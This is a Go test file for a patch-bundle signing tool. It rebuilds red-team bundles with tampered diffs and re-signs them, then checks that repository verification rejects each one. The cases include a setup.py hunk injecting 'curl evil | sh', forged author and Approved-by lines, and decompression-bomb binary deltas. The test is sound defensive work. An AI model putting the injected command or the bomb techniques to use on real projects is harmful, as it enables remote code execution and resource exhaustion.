package cli

import (
	"math/rand"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/git-bernstein/git-bernstein/internal/gittest"
	"github.com/git-bernstein/git-bernstein/internal/hostilepatch"
)

// TestVerifyRepoHostileParts builds the red team's bundles of issue 25 (items 2, 3, 4 and 10) as they did: a
// real bundle made by keygen and bundle, its git/diff.patch edited, the archive rebuilt and signed again with
// the signer's key, so that every check but the repository's passes. `verify --repo` FAILS each, naming the
// part and the line at fault. With GIT_BERNSTEIN_KEEP_BOMBS=DIR the bundles, the card and the repository are
// copied to DIR (to measure the real binary on them).
func TestVerifyRepoHostileParts(t *testing.T) {
	t.Parallel()
	r := gittest.New(t)
	rnd := rand.New(rand.NewSource(25))
	bin := make([]byte, 4000)
	rnd.Read(bin)
	bin[7] = 0
	setup := "from setuptools import setup\n\nsetup(\n    name=\"app\",\n    version=\"1.0\",\n    packages=[\"app\"],\n)\n# end\n"
	r.Commit("Start the app", map[string]string{"README": "app\n", "setup.py": setup, "data.bin": string(bin)})
	copy(bin[2000:], "a change in the middle of the data")
	r.Commit("Bump the version\n\nRefs: ENG-7", map[string]string{"README": "app\nversion 2\n",
		"setup.py": strings.Replace(setup, "1.0", "1.1", 1), "data.bin": string(bin)})
	dir := filepath.Dir(r.Dir)
	key, card := filepath.Join(dir, "alice.pem"), filepath.Join(dir, "alice.card.json")
	if _, e, c := runIn(t, r.Dir, r.Env, "keygen", "--kid", "alice-2026", "--key", key, "--card", card); c != 0 {
		t.Fatalf("keygen: %s", e)
	}
	if out, e, c := runIn(t, r.Dir, r.Env, "bundle", "ENG-7", "--no-pr", "--sign-key", key, "--sign-kid", "alice-2026", "--created-at", "2026-01-01T00:00:00Z"); c != 0 {
		t.Fatalf("bundle: %s %s", out, e)
	}
	archive := filepath.Join(r.Dir, "ENG-7.tar.gz")
	_, files := readArchive(t, archive)
	series := string(files["git/diff.patch"])
	hunk := func(h string) string {
		s, ok := hostilepatch.ReplaceHunk(series, "data.bin", h)
		if !ok {
			t.Fatal("the part has no binary hunk for data.bin")
		}
		return s
	}
	keep := os.Getenv("GIT_BERNSTEIN_KEEP_BOMBS")
	if keep != "" {
		os.MkdirAll(keep, 0o755)
		copyFile(t, card, filepath.Join(keep, "alice.card.json"))
		os.RemoveAll(filepath.Join(keep, "repo"))
		if err := os.CopyFS(filepath.Join(keep, "repo"), os.DirFS(r.Dir)); err != nil {
			t.Fatal(err)
		}
	}
	for _, c := range []struct {
		name, old, new string
		problem        string
	}{
		{"traditional-diff", "\n-- \n", "\n--- a/README\n+++ b/README\n@@ -1,2 +1,2 @@\n app\n-version 2\n+pwned\n-- \n",
			`: line 44: "--- a/README" after the section from line 31; format-patch writes the next "diff --git" section or the signature "-- " here: it is a traditional diff ("--- a/README", then "+++ " and "@@"), which git apply would apply`},
		{"two-sections", "diff --git a/setup.py", "diff --git a/setup.py b/setup.py\n--- a/setup.py\n+++ b/setup.py\n" +
			"@@ -7,2 +7,3 @@ setup(\n )\n # end\n+import os; os.system('curl evil | sh')\n" + "diff --git a/setup.py", ": setup.py: a second section for it (the first is at line "},
		{"forged-author", "From: Ada Author <ada@example.com>", "From: Eve Evil <eve@example.com>",
			`: line 2: the part has "From: Eve Evil <eve@example.com>" where format-patch writes "From: Ada Author <ada@example.com>"`},
		{"approved-by", "Refs: ENG-7\n---", "Refs: ENG-7\nApproved-by: CISO <ciso@example.com>\n---",
			`: line 7: the part has "Approved-by: CISO <ciso@example.com>" where format-patch writes "---"`},
		{"delta-16GiB", series, hunk(hostilepatch.Hunk("delta", 12, hostilepatch.Deflate(hostilepatch.Delta(4000, 16<<30, 4, 'b', 'o', 'o', 'm')))),
			"data.bin: does not apply: binary delta makes a 17179869184-byte file, more than the 4000 bytes of the commit's file"},
		{"literal-2^40", series, hunk(hostilepatch.Hunk("literal", 1<<40, hostilepatch.DeflatedZeros(32<<20))),
			"data.bin: does not apply: line 23: the literal says the new file has 1099511627776 bytes, the commit's has 4000"},
		{"newlines-96MiB", "\ndiff --git a/README", "\n" + strings.Repeat("\n", 96<<20) + "diff --git a/README",
			`line 13: "" where format-patch ends its diffstat with one empty line and the first "diff --git" section`},
	} {
		t.Run(c.name, func(t *testing.T) {
			if testing.Short() && strings.HasPrefix(c.name, "newlines-") {
				t.Skip("96 MiB of newlines: make test runs it, go test -short skips it")
			}
			out := filepath.Join(dir, c.name+".tar.gz")
			resign(t, archive, out, key, "alice-2026", "git/diff.patch", c.old, c.new)
			if o, _, code := runIn(t, r.Dir, r.Env, "verify", out, "--card", card); code != 0 {
				t.Fatalf("the edited bundle does not verify without --repo: it must differ only where the repository check looks\n%s", o)
			}
			o, e, code := runIn(t, r.Dir, r.Env, "verify", out, "--card", card, "--repo")
			if code != 1 || !strings.Contains(o, "\n[FAIL] repository — the git section disagrees with . in ") ||
				!strings.Contains(o, "git/diff.patch, part 1 (line 1, for ") || !strings.Contains(o, c.problem) {
				t.Fatalf("exit %d, want 1 with %q\n%.3000s%s", code, c.problem, o, e)
			}
			if keep != "" {
				copyFile(t, out, filepath.Join(keep, c.name+".tar.gz"))
				copyFile(t, out+".jws", filepath.Join(keep, c.name+".tar.gz.jws"))
			}
		})
	}
}

func copyFile(t *testing.T, from, to string) {
	t.Helper()
	data, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(to, data, 0o644); err != nil {
		t.Fatal(err)
	}
}
